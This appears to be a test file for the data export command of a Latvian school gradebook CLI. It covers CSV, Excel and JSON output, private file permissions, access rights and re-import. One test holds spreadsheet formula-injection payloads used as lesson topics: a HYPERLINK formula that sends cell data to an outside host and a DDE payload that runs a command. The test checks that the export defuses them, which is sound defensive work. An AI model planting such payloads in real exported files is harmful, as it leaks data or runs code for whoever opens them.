import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { readCsv } from '../../src/csv/read.ts';
import { NAME_FIELDS, KIND_COLUMNS, TRANSFER_KINDS } from '../../src/transfer/columns.ts';
import { cli } from '../support/cli.ts';
import { tempDir } from '../support/school.ts';

const t = tempDir('ezurnals-export-');
const env = { EZURNALS_DB: t.dbPath, EZURNALS_USER: 'admin' };
const run = (...args: string[]) => cli(args, env);

test.before(async () => {
  const steps = [
    ['init', '--school', 'Rīgas Parauga vidusskola', '--year', '2026/2027'],
    ['staff', 'add', 'T01', '--first-name', 'Anna', '--last-name', 'Kalniņa', '--role', 'teacher', '--role', 'class-teacher', '--phone', '+37120000001'],
    ['subject', 'add', 'mat', '--name', 'Matemātika'],
    ['class', 'add', '7.a', '--class-teacher', 'T01'],
    ['student', 'add', 'S001', '--first-name', 'Jānis', '--last-name', 'Bērziņš', '--personal-code', '010110-20002', '--class', '7.a', '--address', 'Brīvības iela 1; dz. 5, Rīga'],
    ['student', 'add', 'S002', '--first-name', 'Žanete', '--last-name', 'Ābele', '--class', '7.a'],
    ['guardian', 'add', '--student', 'S001', '--student', 'S002', '--first-name', 'Ilze', '--last-name', 'Bērziņa', '--relation', 'mother', '--phone', '+37129999999'],
    ['assign', 'add', '--class', '7.a', '--subject', 'mat', '--teacher', 'T01'],
    ['lesson', 'add', '--class', '7.a', '--subject', 'mat', '--date', '2026-10-05', '--number', '2', '--topic', 'Daļskaitļi, "saīsināšana"', '--homework', '12. lpp.\n3. uzd.', '--as', 'T01'],
    ['absence', 'mark', '--lesson', '1', '--student', 'S002', '--as', 'T01'],
    ['absence', 'justify', '--student', 'S002', '--from', '2026-10-05', '--reason', 'other', '--as', 'T01'],
    ['grade', 'enter', '--lesson', '1', '--student', 'S001=8', '--work', 'test', '--note', 'Ieskaite; 1. variants', '--as', 'T01'],
  ];
  for (const step of steps) assert.is((await run(...step)).code, 0, step.join(' '));
});

test.after(() => t.cleanup());

test('every kind exports its importer columns, and the CSV reads back with the same values', async () => {
  for (const kind of TRANSFER_KINDS) {
    const r = await run('export', kind);
    assert.is(r.code, 0, `${kind}: ${r.stderr}`);
    const table = readCsv({ bytes: Buffer.from(r.stdout), file: `${kind}.csv` });
    // The names beside codes are --excel's only.
    assert.equal(table.header, KIND_COLUMNS[kind].fields.filter((f) => !NAME_FIELDS.has(f)), kind);
  }
  const lessons = readCsv({ bytes: Buffer.from((await run('export', 'lessons')).stdout), file: 'lessons.csv' });
  assert.equal(lessons.rows.map((r) => r.cells.slice(0, -1)), [['7.a', 'mat', '2026-10-05', '2', 'T01', 'Daļskaitļi, "saīsināšana"', '12. lpp.\n3. uzd.', '', '']]);
  assert.match(lessons.rows[0]!.cells.at(-1)!, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+0[23]:00$/, 'entered_at: when the lesson was recorded');
  const students = readCsv({ bytes: Buffer.from((await run('export', 'students')).stdout), file: 'students.csv' });
  assert.equal(students.rows[0]!.cells.slice(0, 5), ['S002', 'Žanete', 'Ābele', '', '7.a']);
  assert.equal(students.rows[1]!.cells.slice(0, 6), ['S001', 'Jānis', 'Bērziņš', '010110-20002', '7.a', '2010-01-01']);
  assert.is(students.rows[1]!.cells[9], 'Brīvības iela 1; dz. 5, Rīga');
});

test('one guardian of two students is one row per student', async () => {
  const rows = readCsv({ bytes: Buffer.from((await run('export', 'guardians')).stdout), file: 'g.csv' }).rows.map((r) => r.cells);
  assert.equal(rows, [
    ['S001', 'Ilze', 'Bērziņa', 'mother', '+37129999999', '', ''],
    ['S002', 'Ilze', 'Bērziņa', 'mother', '+37129999999', '', ''],
  ]);
});

test('absences export the current code and grades their kind of work and note', async () => {
  assert.equal(readCsv({ bytes: Buffer.from((await run('export', 'absences')).stdout), file: 'a.csv' }).rows.map((r) => r.cells.slice(0, -1)), [['7.a', 'mat', '2026-10-05', '2', 'S002', 'nc']]);
  assert.equal(readCsv({ bytes: Buffer.from((await run('export', 'grades')).stdout), file: 'g.csv' }).rows.map((r) => r.cells.slice(0, -1)), [['7.a', 'mat', '2026-10-05', 'S001', '8', 'test', 'Ieskaite; 1. variants']]);
});

test('--excel writes ";" with a UTF-8 BOM and CRLF, Latvian headers and words, names beside codes and DD.MM.YYYY dates', async () => {
  const r = await cli(['export', 'subjects', '--excel'], env);
  assert.is(r.code, 0);
  assert.ok(r.stdout.startsWith('\uFEFFKods;Nosaukums\r\n'), JSON.stringify(r.stdout.slice(0, 20)));
  assert.ok(r.stdout.includes('mat;Matemātika\r\n'));
  const grades = await run('export', 'grades', '--excel');
  assert.is(grades.code, 0, grades.stderr);
  const [header, row] = grades.stdout.split('\r\n');
  assert.is(header, '\uFEFFKlase;Priekšmets;Priekšmeta nosaukums;Datums;Skolēns;Skolēna vārds un uzvārds;Vērtējums;Darba veids;Piezīmes;Ievadīts');
  assert.match(row!, /^7\.a;mat;Matemātika;05\.10\.2026;S001;Jānis Bērziņš;8;pārbaudes darbs;"Ieskaite; 1\. variants";\d\d\.\d\d\.2026 \d\d:\d\d:\d\d$/);
  const guardians = await run('export', 'guardians', '--excel');
  assert.match(guardians.stdout, /^\uFEFFSkolēns;Skolēna vārds un uzvārds;Vārds;Uzvārds;Radniecība;Tālrunis;E-pasts;Adrese\r\nS001;Jānis Bērziņš;Ilze;Bērziņa;māte;'\+37129999999;;\r\n/);
});

test('--format json gives records with the same keys', async () => {
  const r = await run('export', 'grades', '--format', 'json');
  assert.is(r.code, 0);
  const { entered_at: enteredAt, ...grade } = r.json[0];
  assert.equal([grade], [{ class: '7.a', subject: 'mat', date: '2026-10-05', student: 'S001', value: '8', work: 'test', note: 'Ieskaite; 1. variants' }]);
  assert.is(enteredAt, (await run('grade', 'list', '--json')).json[0].created_at, 'entered_at is when the grade was entered');
});

test('--out writes a private file and refuses to overwrite without --force', async () => {
  const out = join(t.dir, 'students.csv');
  const first = await run('export', 'students', '--out', out, '--json');
  assert.is(first.code, 0, first.stderr);
  assert.equal(first.json, { kind: 'students', file: out, rows: 2 });
  assert.is(statSync(out).mode & 0o777, 0o600);
  writeFileSync(out, 'keep me');
  const again = await run('export', 'students', '--out', out);
  assert.is(again.code, 6);
  assert.is(readFileSync(out, 'utf8'), 'keep me');
  assert.is((await run('export', 'students', '--out', out, '--force')).code, 0);
  assert.match(readFileSync(out, 'utf8'), /Bērziņš/);
});

test('exports are for admins and deputies (and the operator, personal data aside): a teacher is refused; bad kinds and formats are usage errors', async () => {
  const teacher = { ...env, EZURNALS_USER: 'T01' };
  for (const kind of ['students', 'guardians', 'staff', 'lessons']) assert.is((await cli(['export', kind], teacher)).code, 5, kind);
  const operator = { ...env, EZURNALS_USER: undefined };
  assert.is((await cli(['export', 'lessons'], operator)).code, 0);
  assert.is((await cli(['export', 'students'], operator)).code, 2, 'personal data needs an admin or deputy by name');
  assert.is((await run('export', 'pupils')).code, 2);
  assert.is((await run('export', 'grades', '--format', 'xml')).code, 2);
  assert.is((await run('export', 'grades', '--format', 'json', '--excel')).code, 2);
});

test('a topic that is a formula reaches Excel as text, and importing the export gives back the same value', async () => {
  const topics = ['=HYPERLINK("http://x.lv/?d="&A1,"Atvērt")', "+cmd|' /C calc'!A0", '@SUM(A1:A2)'];
  for (const [i, topic] of topics.entries()) assert.is((await run('lesson', 'add', '--class', '7.a', '--subject', 'mat', '--date', '2026-10-06', '--number', String(i + 1), '--topic', topic, '--as', 'T01')).code, 0, topic);
  const r = await run('export', 'lessons', '--excel');
  assert.is(r.code, 0, r.stderr);
  assert.ok(r.stdout.includes(`;"'=HYPERLINK(""http://x.lv/?d=""&A1,""Atvērt"")";`), r.stdout);
  assert.ok(r.stdout.includes(`;'+cmd|' /C calc'!A0;`), r.stdout);
  assert.ok(r.stdout.includes(`;'@SUM(A1:A2);`), r.stdout);
  for (const line of r.stdout.split('\r\n')) for (const cell of line.split(';')) assert.not.match(cell, /^"?[=+@]/, line);
  const file = join(t.dir, 'lessons-excel.csv');
  writeFileSync(file, r.stdout);
  const back = await run('import', 'lessons', file, '--json');
  assert.is(back.code, 0, back.stderr);
  assert.equal(back.json.map((k: { updated: number; created: number }) => [k.created, k.updated]), [[0, 0]], 'every lesson unchanged');
  assert.equal((await run('lesson', 'list', '--json')).json.filter((l: { date: string }) => l.date === '2026-10-06').map((l: { topic: string }) => l.topic), topics);
});

test.run();
